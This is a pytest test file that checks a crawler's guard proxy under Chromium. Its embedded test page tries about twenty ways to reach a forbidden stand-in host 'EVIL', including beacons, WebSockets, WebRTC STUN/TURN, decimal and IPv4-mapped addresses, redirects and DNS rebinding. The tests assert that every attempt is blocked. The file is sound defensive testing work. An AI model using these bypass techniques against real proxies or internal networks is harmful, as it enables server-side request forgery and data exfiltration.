"""The guard under a real Chromium: whatever a page tries, nothing reaches a forbidden address."""

from __future__ import annotations

import asyncio
import contextlib
import socket
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from archive.urls.addresses import Allowed
from crawler.browser.chromium import Chromium
from crawler.browser.page_traffic import PageLimits
from crawler.browser.proxy import GuardProxy
from crawler.browser.visit import Began, Visit, VisitOrder
from tests.browsing import CHROMIUM, Held, ordinary_chromium, renderers
from tests.fetching import Asked, Server, pages, reply

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium"),
]

# Each tells our own server that it was tried, and then tries to reach the forbidden one.
TRIES = """<title>Tries</title><p id=there></p>
<div id=d></div>
<script>
const evil = "http://EVIL", own = location.origin;
const tried = name => fetch(own + "/tried/" + name).catch(() => 0);
const ways = {
  fetch: () => fetch(evil + "/fetch", {mode: "no-cors"}),
  tls: () => fetch("https://EVIL/tls", {mode: "no-cors"}),
  post: () => fetch(evil + "/post", {method: "POST", body: "x", mode: "no-cors"}),
  decimal: () => fetch("http://2130706434:" + new URL(evil).port + "/", {mode: "no-cors"}),
  mapped: () => fetch("http://[::ffff:127.0.0.2]:" + new URL(evil).port + "/", {mode: "no-cors"}),
  xhr: () => { const x = new XMLHttpRequest(); x.open("GET", evil + "/xhr"); x.send(); },
  image: () => { new Image().src = evil + "/image"; },
  redirect: () => fetch(own + "/redirect", {mode: "no-cors"}),
  frame: () => add("iframe", {src: evil + "/frame"}),
  refresh: () => add("iframe", {src: own + "/refresh"}),
  form: () => {
    add("iframe", {name: "into"});
    const form = add("form", {action: evil + "/form", method: "post", target: "into"});
    form.submit();
  },
  beacon: () => navigator.sendBeacon(evil + "/beacon", "x"),
  events: () => { new EventSource(evil + "/events"); },
  socket: () => { new WebSocket("ws://EVIL/socket"); new WebSocket("wss://EVIL/socket"); },
  worker: () => {
    const code = `fetch("${evil}/worker", {mode: "no-cors"}); new WebSocket("ws://EVIL/w");`;
    new Worker(URL.createObjectURL(new Blob([code])));
  },
  service: () => navigator.serviceWorker.register("/service.js"),
  hint: () => {
    for (const rel of ["prefetch", "preconnect", "dns-prefetch", "modulepreload"])
      add("link", {rel, href: evil + "/hint"});
  },
  download: () => {
    // of another origin it is no download: its frame goes there
    for (const where of [evil + "/download", own + "/redirect"])
      add("iframe", {srcdoc: `<a download href="${where}">x</a>
        <` + `script>document.querySelector("a").click()</` + `script>`});
  },
  popup: () => { window.open(evil + "/popup"); },
  way: () => fetch("http://127.0.0.1:WAY/", {mode: "no-cors"}).then(() => tried("way-in")),
  peers: () => {
    const servers = [{urls: "stun:EVIL"},
                     {urls: "turn:EVIL?transport=tcp", username: "u", credential: "c"}];
    const peer = new RTCPeerConnection({iceServers: servers});
    peer.createDataChannel("x");
    peer.createOffer().then(offer => peer.setLocalDescription(offer));
  },
};
function add(name, fields) {
  const made = Object.assign(document.createElement(name), fields);
  document.getElementById("d").append(made);
  return made;
}
for (const [name, way] of Object.entries(ways)) {
  tried(name);
  try { const begun = way(); if (begun && begun.catch) begun.catch(() => 0); } catch (error) {}
}
document.getElementById("there").textContent = "All was tried";
</script>"""

NAMES = (
    "fetch", "tls", "post", "decimal", "mapped", "xhr", "image", "redirect", "frame", "refresh",
    "form", "beacon", "events", "socket", "worker", "service", "hint", "download", "popup", "way",
    "peers",
)  # fmt: skip

ASKS_AGAIN = b"""<title>Again</title><p id=there>waiting</p><script>
fetch("/again").then(() => "reached", () => "not reached")
  .then(said => { document.getElementById("there").textContent = said; });
</script>"""


@dataclass
class Seen:
    """What became of the visits.

    Attributes:
        touched: Connections that the forbidden server had, and datagrams.
        asked: Paths that our own server was asked for.
        sandboxed: Whether Chromium had the sandbox.
        held: What the system said of the pages' processes while one was looked at.
    """

    visits: dict[str, Visit] = field(default_factory=dict)
    doms: dict[str, str] = field(default_factory=dict)
    touched: int = 0
    datagrams: int = 0
    asked: list[str] = field(default_factory=list)
    sandboxed: bool = False
    held: list[Held] = field(default_factory=list)


@pytest.fixture(scope="module")
def seen(tmp_path_factory: pytest.TempPathFactory) -> Seen:
    """All visits, by one Chromium."""
    return asyncio.run(_looked(tmp_path_factory.mktemp("visits")))


@contextlib.contextmanager
def datagrams(port: int) -> Iterator[socket.socket]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
        opened.bind(("127.0.0.2", port))
        opened.setblocking(False)
        yield opened


async def _looked(folder: Path) -> Seen:
    found, asked = Seen(), dict[str, int]()
    program, found.sandboxed = ordinary_chromium(folder)

    def look(connection: socket.socket, _asked: Asked) -> None:
        found.held = renderers()
        reply(connection)

    async def resolver(host: str, port: int) -> list[str]:
        """A name that is ours at first, and then somebody else's."""
        asked[host] = asked.get(host, 0) + 1
        if host == "moves.example":
            return ["127.0.0.1" if asked[host] == 1 else "127.0.0.2"]
        return [host]

    evil = Server(pages({}), host="127.0.0.2")
    table: dict[str, object] = {}
    own = Server(pages(table))
    with evil.running(), own.running(), datagrams(evil.port) as thrown:
        table.update({**_table(f"127.0.0.2:{evil.port}"), "/tried/fetch": look})
        async with GuardProxy(Allowed.of(["127.0.0.1"]), {}, resolver) as proxy:
            tries = TRIES.replace("EVIL", f"127.0.0.2:{evil.port}")
            table["/tries"] = (200, tries.replace("WAY", str(proxy.port)).encode(), HTML)
            began = Began(program, sandbox=found.sandboxed, agent="isw-archive/test")
            async with Chromium(began, proxy, Allowed.of(["127.0.0.1"])) as browser:
                for name, url in (
                    ("tries", f"http://127.0.0.1:{own.port}/tries"),
                    ("redirect", f"http://127.0.0.1:{own.port}/redirect"),
                    ("moves", f"http://moves.example:{own.port}/again"),
                    ("itself", f"http://127.0.0.2:{evil.port}/"),
                ):
                    into = folder / name
                    into.mkdir()
                    visit = await browser.visit(VisitOrder(url, str(into), limits=PageLimits(20)))
                    found.visits[name] = visit
                    found.doms[name] = (into / "page.html").read_text() if visit.dom else ""
        with contextlib.suppress(BlockingIOError):
            while thrown.recv(2048):
                found.datagrams += 1
    found.touched, found.asked = evil.touched, own.paths()
    return found


HTML = {"Content_Type": "text/html"}


def _table(evil: str) -> dict[str, object]:
    refresh = f'<meta http-equiv="refresh" content="0; url=http://{evil}/refresh">'
    return {
        "/again": (200, ASKS_AGAIN, HTML),
        "/redirect": (302, b"", {"Location": f"http://{evil}/redirect"}),
        "/refresh": (200, refresh.encode(), HTML),
        "/service.js": (200, b"fetch('/x')", {"Content_Type": "text/javascript"}),
    }


def test_whatever_a_page_tries_nothing_reaches_the_forbidden_server(seen: Seen) -> None:
    assert seen.touched == 0
    assert seen.datagrams == 0


@pytest.mark.parametrize("name", NAMES)
def test_each_way_was_really_tried(seen: Seen, name: str) -> None:
    assert f"/tried/{name}" in seen.asked


def test_what_was_refused_is_told_with_its_reason(seen: Seen) -> None:
    refused = dict(seen.visits["tries"].refused)
    assert any("127.0.0.2" in place for place in refused)
    assert "loopback" in " ".join(refused.values())


def test_the_rest_of_the_page_is_kept_all_the_same(seen: Seen) -> None:
    assert seen.visits["tries"].status == 200
    assert "All was tried" in seen.doms["tries"]


def test_a_script_does_not_reach_the_way_out_itself(seen: Seen) -> None:
    assert "/tried/way-in" not in seen.asked
    assert "way out" in str(seen.visits["tries"].refused)


def test_no_service_worker_is_registered(seen: Seen) -> None:
    assert "/x" not in seen.asked


def test_a_redirect_to_a_forbidden_address_ends_as_refused(seen: Seen) -> None:
    error = seen.visits["redirect"].error
    assert error is not None
    assert error[0] == "address-refused"


def test_a_name_that_changes_its_answer_reaches_nobody(seen: Seen) -> None:
    assert seen.asked.count("/again") == 1
    assert ">not reached<" in seen.doms["moves"]


def test_a_forbidden_address_itself_is_refused_before_the_browser_sees_it(seen: Seen) -> None:
    error = seen.visits["itself"].error
    assert error is not None
    assert error[0] == "address-refused"


def test_what_a_page_runs_is_held_in_the_systems_sandbox(seen: Seen) -> None:
    if not seen.sandboxed:
        pytest.skip("the system gives an ordinary user no namespaces, of which the sandbox is made")
    assert seen.held
    for process in seen.held:
        assert process.uid != 0
        assert process.apart
        assert process.filtered
        assert not process.gains
